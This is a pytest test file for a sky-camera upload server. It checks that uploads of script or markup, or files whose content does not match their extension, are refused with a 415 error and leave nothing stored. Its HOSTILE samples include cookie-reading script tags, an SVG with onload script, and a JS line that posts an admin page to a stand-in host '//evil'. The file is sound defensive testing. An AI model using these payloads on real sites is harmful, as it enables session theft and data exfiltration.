"""Uploads cannot plant script: each kind takes only its media types (by extension), the content must
start as that type does, and a refusal is a 415 JSON error that leaves nothing in staging or storage."""
from __future__ import annotations

import pytest

from tests.helpers import metadata as mdh
from tests.helpers.media import fake, png
from tests.helpers.storage import assert_consistent, assert_nothing_stored, stored_files

SCRIPT = b"<script>alert(document.cookie)</script>"
HOSTILE = {
    "x.html": b"<!doctype html><html><body>" + SCRIPT + b"</body></html>",
    "x.htm": b"<html>" + SCRIPT,
    "x.js": b"fetch('/admin/users').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))",
    "x.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "x.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
}
# What each kind takes (issue 13): images and their products, videos, FITS, raw exports.
ALLOWED = {
    "image": (".jpg", ".jpeg", ".png", ".webp"), "panoramaimage": (".jpg", ".jpeg", ".png", ".webp"),
    "keogram": (".jpg", ".jpeg", ".png", ".webp"), "startrail": (".jpg", ".jpeg", ".png", ".webp"),
    "thumbnail": (".jpg", ".jpeg", ".png", ".webp"),
    "video": (".mp4", ".webm"), "startrailvideo": (".mp4", ".webm"), "panoramavideo": (".mp4", ".webm"),
    "minivideo": (".mp4", ".webm"),
    "fitsimage": (".fit", ".fits"), "rawimage": (".png", ".tif", ".tiff"),
}
EVERY_EXTENSION = sorted({ext for exts in ALLOWED.values() for ext in exts})


def refused(resp, code: str) -> dict:
    assert resp.status_code == 415, (resp.status_code, resp.get_data()[:300])
    assert resp.is_json, resp.get_data()[:300]
    body = resp.get_json()
    assert body["error"] == code, body
    return body


def test_every_kind_is_listed_here():
    assert sorted(ALLOWED) == sorted(mdh.ALL_KINDS)


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("kind", ["image", "thumbnail", "keogram", "video", "rawimage"])
def test_script_and_markup_uploads_are_refused(app, sender, camera, kind, name):
    body = refused(sender.send("POST", kind, mdh.asset(kind), HOSTILE[name], media_name=name),
                   "media_type_not_allowed")
    ext = name[name.rfind("."):]
    assert repr(ext) in body["message"]  # names what was sent
    assert all(allowed in body["message"] for allowed in ALLOWED[kind])  # and what would do
    assert_nothing_stored(app)


@pytest.mark.parametrize("name", ["x.html", "x.svg"])
def test_markup_behind_an_image_signature_under_its_own_name_is_refused(app, sender, camera, name):
    refused(sender.send("PUT", "image", mdh.asset("image"), fake(".jpg", HOSTILE[name]), media_name=name),
            "media_type_not_allowed")
    assert_nothing_stored(app)


@pytest.mark.parametrize("kind", mdh.ALL_KINDS)
def test_each_kind_takes_exactly_its_extensions(app, sender, camera, kind):
    for i, ext in enumerate(EVERY_EXTENSION):
        meta = mdh.asset(kind, when=mdh.NIGHT_START + 86400 * i, dayDate=f"202501{i + 1:02d}")
        if kind == "minivideo":
            meta.update(startDate=meta["createDate"], endDate=meta["createDate"] + 60)
        resp = sender.send("PUT", kind, meta, fake(ext, b"payload"), media_name="upload" + ext.upper())
        if ext in ALLOWED[kind]:
            assert resp.status_code == 200, (ext, resp.get_json())
            assert resp.get_json()["url"].endswith(ext)  # stored in lower case
        else:
            body = refused(resp, "media_type_not_allowed")
            assert repr(ext) in body["message"], body
    assert len(stored_files(app)) == len(ALLOWED[kind])
    assert_consistent(app)


@pytest.mark.parametrize("kind,name,content", [
    ("image", "sky.jpg", png(200)),                      # a real PNG named .jpg
    ("image", "sky.jpg", HOSTILE["x.html"]),             # HTML named .jpg
    ("image", "sky.png", fake(".jpg", b"jfif")),         # JPEG named .png
    ("thumbnail", "t.webp", b"RIFF\x10\x00\x00\x00WAVEfmt "),  # RIFF, but not WebP
    ("video", "t.mp4", b"\x1a\x45\xdf\xa3" + b"\x00" * 60),     # WebM named .mp4
    ("video", "t.webm", HOSTILE["x.svg"]),
    ("fitsimage", "f.fits", b"SIMPLE = T" + b" " * 70),  # not a FITS card ("SIMPLE  =")
    ("rawimage", "r.tif", b"II+\x00" + b"\x00" * 60),    # BigTIFF-like, not the TIFF the list names
    ("image", "tiny.jpg", b"\xff\xd8"),                  # too short to be a JPEG
], ids=["png-as-jpg", "html-as-jpg", "jpeg-as-png", "wave-as-webp", "webm-as-mp4", "svg-as-webm", "bad-fits-card",
        "not-tiff", "short-jpeg"])
def test_content_that_is_not_what_its_name_says_is_refused(app, sender, camera, kind, name, content):
    body = refused(sender.send("POST", kind, mdh.asset(kind), content, media_name=name), "media_content_mismatch")
    assert repr(name[name.rfind("."):]) in body["message"]
    assert_nothing_stored(app)  # neither a row, nor a stored file, nor a staging leftover


def test_a_refused_replacement_leaves_the_stored_asset_as_it_was(app, client, sender, camera):
    first = fake(".jpg", b"first")
    stored = sender.send("PUT", "image", mdh.asset("image"), first, media_name="sky.jpg")
    assert stored.status_code == 200, stored.get_json()
    refused(sender.send("PUT", "image", mdh.asset("image"), HOSTILE["x.html"], media_name="sky.jpg"),
            "media_content_mismatch")
    refused(sender.send("PUT", "image", mdh.asset("image"), HOSTILE["x.html"], media_name="sky.html"),
            "media_type_not_allowed")
    assert client.get(f"/indi-allsky/{stored.get_json()['url']}").get_data() == first
    assert_consistent(app)


@pytest.mark.parametrize("scheme", ["v1", "skyfleet"])
def test_both_signature_schemes_are_checked(app, sender, camera, scheme):
    sender.scheme = scheme
    refused(sender.send("POST", "image", mdh.asset("image"), HOSTILE["x.js"], media_name="x.js"),
            "media_type_not_allowed")
    refused(sender.send("POST", "image", mdh.asset("image"), HOSTILE["x.html"], media_name="x.jpg"),
            "media_content_mismatch")
    assert_nothing_stored(app)


def test_metadata_only_upload_needs_no_content_check(app, sender, camera):
    """indi-allsky's EMPTY_FILE option: the row without a file, whatever name the empty part has."""
    resp = sender.send("PUT", "image", mdh.asset("image"), b"", media_name="ccd1_20241231_190000.jpg")
    assert resp.status_code == 200 and resp.get_json()["url"] is None, resp.get_json()
    assert_consistent(app)
